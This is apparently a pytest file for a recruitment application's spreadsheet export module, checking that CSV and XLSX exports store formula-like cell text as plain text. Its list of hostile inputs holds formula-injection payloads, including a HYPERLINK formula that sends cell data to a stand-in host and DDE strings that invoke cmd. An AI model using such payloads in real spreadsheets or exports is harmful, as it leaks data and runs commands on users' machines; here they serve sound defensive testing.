"""Exports: every cell that a spreadsheet would run as a formula is written as plain text."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest

from rekrut.core.exports import cell_neutralise, csv_export, looks_like_formula, xlsx_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"CV")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width, as some input methods type it
]
HARMLESS = ["Budi Santoso", "-5", "+6281234567890", "3.5", "budi@example.com", "", "Jl. Merdeka = 5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert looks_like_formula(text)
    assert cell_neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_signed_numbers_are_left_alone(text: str) -> None:
    assert not looks_like_formula(text)
    assert cell_neutralise(text) == text


def test_csv_export_neutralises_every_cell_headers_included() -> None:
    data = csv_export(headers=["Nama", "=Header"], rows=[[text, 1] for text in HOSTILE + HARMLESS])
    assert data.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the mark
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Nama", "'=Header"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE] + HARMLESS
    assert b"\r\n" in data


def test_csv_export_writes_dates_and_empty_cells_plainly(settings) -> None:
    settings.TIME_ZONE = "Asia/Jakarta"
    data = csv_export(
        headers=["Tanggal", "Waktu", "Kosong"],
        rows=[[date(2026, 11, 23), datetime(2026, 11, 23, 2, 30, tzinfo=UTC), None]],
    )
    assert data.decode("utf-8-sig").splitlines()[1] == "2026-11-23,2026-11-23 09:30,"


def test_xlsx_export_writes_formula_like_text_as_text() -> None:
    data = xlsx_export(headers=["Nama", "@Header"], rows=[[text, 7] for text in HOSTILE + HARMLESS])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # not one formula in the file

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [(cell.value, cell.data_type, cell.quotePrefix) for cell in sheet["A"]]
    assert cells[0] == ("Nama", "s", False)
    hostile = [(text.replace("\r", ""), "s", True) for text in HOSTILE]  # XLSX keeps no bare CR
    assert [(value.replace("\r", ""), kind, quoted) for value, kind, quoted in cells[1:8]] == hostile
    assert cells[8:] == [(text or None, "s", False) if text else (None, "n", False) for text in HARMLESS]
    assert sheet["B2"].value == 7 and sheet["B2"].data_type == "n"
    assert sheet["B1"].quotePrefix and sheet["B1"].value == "@Header"


def test_xlsx_export_drops_characters_the_format_forbids_instead_of_failing() -> None:
    data = xlsx_export(
        headers=["Catatan"], rows=[["baris\x00satu\x07"], ["x" * 40_000]], title="Kandidat: [Q3]"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet is not None
    assert sheet.title == "Kandidat   Q3 "
    assert sheet["A2"].value == "barissatu"
    assert len(sheet["A3"].value) == 32_767
